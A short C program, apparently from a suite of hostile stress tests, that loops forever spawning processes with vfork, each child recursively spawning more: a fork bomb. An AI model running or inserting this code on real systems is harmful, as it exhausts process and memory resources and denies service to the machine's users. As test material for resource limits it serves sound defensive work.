#include "hostile.h"
static volatile int turns;
static void spawn(void)
{
    pid_t pid = vfork();
    if (pid == 0) {
        turns++;
        spawn();
        _exit(0);
    }
}
int main(void)
{
    for (;;)
        spawn();
}
